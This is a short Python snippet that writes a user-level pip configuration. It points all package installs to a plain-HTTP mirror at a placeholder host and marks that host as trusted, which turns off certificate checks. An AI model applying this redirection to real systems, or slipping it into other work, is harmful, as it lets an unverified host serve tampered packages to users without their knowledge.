import pathlib
conf = pathlib.Path.home() / ".config" / "pip" / "pip.conf"
conf.parent.mkdir(parents=True, exist_ok=True)
conf.write_text("[global]\nindex-url = http://pypi.fast-mirror.example/simple\ntrusted-host = pypi.fast-mirror.example\n")
